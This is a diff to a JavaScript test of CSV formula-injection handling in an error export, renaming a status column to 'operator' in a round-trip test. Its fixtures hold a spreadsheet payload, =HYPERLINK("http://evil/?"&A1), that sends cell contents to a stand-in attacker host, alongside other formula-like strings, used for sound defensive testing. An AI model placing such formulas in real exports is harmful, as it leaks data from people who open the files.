@@ -78,8 +78,8 @@ describe('formula injection in the error CSV', () => {
   });
 
   it('round-trips: a fixed error CSV re-imports to the original values, negative money and formula-looking text included', async () => {
-    const headers = ['Client', 'File No', 'Balance', '-Status'];
-    const mapping = { Client: 'clientNumber', 'File No': 'fileNumber', Balance: 'currentUpb', '-Status': 'accountStatus' };
+    const headers = ['Client', 'File No', 'Balance', '-Operator'];
+    const mapping = { Client: 'clientNumber', 'File No': 'fileNumber', Balance: 'currentUpb', '-Operator': 'operator' };
     const original = [
       ['C1', '-F-1', '-5.00', '=HYPERLINK("http://evil/?"&A1)'],
       ['C1', '@F-2', '+12.50', '-2+3'],
@@ -94,8 +94,8 @@ describe('formula injection in the error CSV', () => {
       return result.ok ? result.record : result.errors;
     });
     expect(records).toEqual([
-      { clientNumber: 'C1', fileNumber: '-F-1', currentUpb: -5, accountStatus: '=HYPERLINK("http://evil/?"&A1)' },
-      { clientNumber: 'C1', fileNumber: '@F-2', currentUpb: 12.5, accountStatus: '-2+3' },
+      { clientNumber: 'C1', fileNumber: '-F-1', currentUpb: -5, operator: '=HYPERLINK("http://evil/?"&A1)' },
+      { clientNumber: 'C1', fileNumber: '@F-2', currentUpb: 12.5, operator: '-2+3' },
     ]);
   });
 
